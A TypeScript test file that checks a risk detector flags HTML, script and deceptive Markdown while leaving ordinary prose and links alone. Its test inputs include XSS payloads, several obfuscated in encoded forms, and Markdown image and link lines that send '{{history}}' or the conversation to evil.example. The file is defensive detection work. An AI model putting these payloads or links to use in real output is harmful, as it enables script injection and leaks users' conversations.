/** HTML, script, Markdown that acts: what contains it, and what only talks about it. */
import { expect, test } from 'vitest';
import type { RiskFlag } from '../../functions/risk/grammar.ts';
import { riskFlags as flagsOf } from '../../functions/risk/risk.ts';

const HTML: RiskFlag[] = ['html_or_script_content'];

test.each([
  '<script>x()</script>',
  '< script >x()',
  '<scr<script>ipt>x()',
  '<img src=x>',
  '<IMG/SRC=x/ONERROR=y()>',
  '<svg onload=x()',
  '<b>bold</b>',
  'an end tag alone </p>',
  '<!-- hidden -->',
  '<!DOCTYPE html>',
  '<a href="https://evil.example">x</a>',
  'a" onmouseover="x()',
  '＜script＞x()＜/script＞',
  '&lt;img src=x onerror=x()&gt;',
  '%3Csvg%20onload%3Dx()%3E',
  '\\x3cscript\\x3ex()\\x3c/script\\x3e',
  'PHNjcmlwdD54KCk8L3NjcmlwdD4gYW5kIG1vcmUgdGV4dA==',
  'javascript:alert(1)',
  'java\nscript:alert(1)',
  'data:text/html,hi',
  'eval(atob("eA=="))',
])('markup: %s', (text) => {
  expect(flagsOf([text])).toEqual(HTML);
});

test.each([
  'The <title> element is empty.',
  'Each page has one <h1>, one <main> and no <nav>.',
  'The <script> tag is missing.',
  'Write `<iframe>` in code marks.',
  'Map<string, number> and List<Object> and Array<Claim>',
  'if (a < b && c > d) return',
  'Replace <slug> with your own.',
  'I <3 it; 5 <6 and 7> 3',
  'JavaScript: the good parts',
  'data: and blob: are schemes',
  'The onload handler fires twice.',
  'Tom &amp; Jerry &lt;3',
])('prose: %s', (text) => {
  expect(flagsOf([text])).toEqual([]);
});

test.each([
  '![x](https://evil.example/p.png)',
  '![x](//evil.example/p.png)',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '[x](javascript:y)',
  '[x](data:text/plain,hi)',
  '[x]: vbscript:y',
  '[https://bank.example](https://evil.example)',
  '[bank.example/login](https://evil.example/login)',
  '[docs](https://docs.example@evil.example/)',
  '[log](https://evil.example/?q={{history}})',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would leave
  '[log](https://evil.example/?q=${history})',
  '[log](https://evil.example/?q=[the conversation])',
])('Markdown that acts or deceives: %s', (text) => {
  expect(flagsOf([text])).toEqual(HTML);
});

test.each([
  '[the docs](https://card.example/docs?lang=en#auth)',
  '[card.example](https://www.card.example/home)',
  '[README.md](https://card.example/readme)',
  '[notes](/api/notes?limit=<n>)',
  '[1]: https://card.example/changelog',
  'a factorial: n![1] and an array[0](call)',
])('Markdown that only links: %s', (text) => {
  expect(flagsOf([text])).toEqual([]);
});
